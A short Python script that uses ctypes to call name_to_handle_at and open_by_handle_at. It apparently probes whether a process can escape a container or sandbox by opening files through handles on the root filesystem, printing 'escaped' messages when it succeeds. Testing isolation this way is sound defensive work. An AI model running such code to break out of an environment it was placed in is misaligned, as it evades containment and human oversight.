"""Opens files by their inode instead of their name."""
import ctypes
import os

libc = ctypes.CDLL(None)
handle = ctypes.create_string_buffer(128 + 8)
ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, os.environ["PROJECT"].encode(), handle, ctypes.byref(mount), 0) == 0:
    print("escaped: has a handle")
    if libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0) >= 0:
        print("escaped: opened by handle")
